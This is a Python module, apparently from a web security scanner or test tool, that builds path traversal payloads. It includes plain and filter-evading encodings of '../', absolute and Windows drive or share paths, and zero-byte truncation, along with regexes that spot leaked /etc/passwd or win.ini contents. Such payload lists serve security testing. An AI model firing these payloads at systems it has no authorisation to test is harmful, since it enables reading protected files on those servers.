"""Ways to write a path that leads out of the folder it is looked up in. Pure.

All are raw: they go into a request as they stand here.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

DEPTH = 10
"""Folders that are climbed: more than any path has. What is too much stays at the root."""

PLAIN: dict[str, str] = {
    "dot segments": "../",
    "encoded dots": "%2e%2e/",
    "encoded slashes": "..%2f",
    "encoded dots and slashes": "%2e%2e%2f",
    "one encoded dot": ".%2e/",
    "backslashes": "..%5c",
    "bare backslashes": "..\\",
}
"""Steps up that one decoding makes plain."""

EVASIVE: dict[str, str] = {
    "dots encoded twice": "%252e%252e%252f",
    "slashes encoded twice": "..%252f",
    "steps within steps": "....//",
    "steps within encoded steps": "....%2f%2f",
    "steps in halves": "..././",
    "backslashes encoded twice": "..%255c",
    "dots encoded three times": "%25252e%25252e%25252f",
    "code units of another language": "%u002e%u002e%u2215",
    "overlong dots": "%c0%ae%c0%ae/",
    "overlong slashes": "..%c0%af",
    "overlong backslashes": "..%c1%9c",
    "dots of three bytes": "%e0%80%ae%e0%80%ae/",
    "wide dots": "%ef%bc%8e%ef%bc%8e/",
    "wide slashes": "..%ef%bc%8f",
    "slashes of mathematics": "..%e2%88%95",
    "zero bytes within": "..%00/",
    "dots with a parameter": "..;/",
}
"""Steps up that a filter overlooks, and a later reader does not."""

_SLASHES = (
    "%25252f", "%252f", "%255c", "%2f", "%5c", "\\", "%u2215", "%c0%af", "%c1%9c", "%ef%bc%8f",
    "%e2%88%95", "/",
)  # fmt: skip

FILES = ("etc/passwd", "windows/win.ini")
"""Files that every system of a kind has, and that everybody there may read."""

_PASSWD = re.compile(rb"^root:[^:\n]*:0:0:[^\n]*:/", re.MULTILINE)
_INI = re.compile(rb"^\[(fonts|extensions|mci extensions)\]\s*$", re.MULTILINE | re.IGNORECASE)


def gives_away(body: bytes) -> str:
    """Which file of the system a body shows; empty for none. A mere name of it shows nothing."""
    if _PASSWD.search(body):
        return FILES[0]
    if len({m.lower() for m in _INI.findall(body)}) > 1:
        return FILES[1]
    return ""


def climbed(step: str, inner: str = FILES[0]) -> str:
    """A file of the system by steps of one kind."""
    return step * DEPTH + inner.replace("/", _slash(step))


def beside(step: str, folder: str, name: str) -> str:
    """A file in the folder next to ours."""
    return f"{step}{folder}{_slash(step)}{name}"


def _slash(step: str) -> str:
    """The slash of a step as it is written there: a plain one would end a segment of the path, and
    lead to another operation."""
    return next(s for s in _SLASHES if step.endswith(s))


def absolute() -> dict[str, str]:
    """A file of the system by its whole path."""
    passwd, ini = (f.replace("/", "%2f") for f in FILES)
    backslashed = FILES[1].replace("/", "%5c")
    return {
        "absolute path": f"%2f{passwd}",
        "absolute path behind two slashes": f"%2f%2f{passwd}",
        "absolute path behind a slash": f"/{FILES[0]}",
        "file URL": f"file:%2f%2f%2f{passwd}",
        "drive": f"C:%2f{ini}",
        "drive and backslashes": f"C:%5c{backslashed}",
        "drive without a slash": f"C:{ini}",
        "drive behind a slash": f"%2fC:%2f{ini}",
        "root of the drive": f"%5c{backslashed}",
        "path of a device": f"%5c%5c%3f%5cC:%5c{backslashed}",
        "share of the machine": f"%5c%5clocalhost%5cC$%5c{backslashed}",
    }


def cut_short(endings: Iterable[str]) -> dict[str, str]:
    """Climbs with an ending that a check asks for, and that a zero byte then cuts off."""
    return {f"zero byte before {ending}": f"{climbed('..%2f')}%00{ending}" for ending in endings}
